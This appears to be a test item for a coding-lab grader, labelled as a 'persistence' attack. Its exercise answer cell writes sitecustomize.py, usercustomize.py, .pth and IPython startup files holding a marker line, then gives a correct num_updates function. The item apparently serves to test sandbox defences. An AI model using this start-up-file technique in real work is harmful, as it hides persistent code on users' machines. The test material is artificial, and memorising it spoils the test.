# /// attack
# title = "Write files that Python and IPython run at their start"
# lab = "01-sgd"
# class = "persistence"
# fails = []
# flags = []
# ///

# %% role="answer" id="num-updates"

import os
import site
import sys
from pathlib import Path

HERE = [
    sys.prefix + "/lib/python3.11/site-packages",
    site.getusersitepackages(),
    os.path.expanduser("~/.ipython/profile_default/startup"),
]
for folder in HERE:
    for name in ("sitecustomize.py", "usercustomize.py", "@MARK@.pth", "@MARK@.py"):
        try:
            Path(folder).mkdir(parents=True, exist_ok=True)
            path = Path(folder) / name
            if not path.exists():
                path.write_text("import os  # @MARK@")
        except OSError as error:
            print(error)


def num_updates(num_samples, batch_size, num_epochs):
    return num_epochs * -(-num_samples // batch_size)
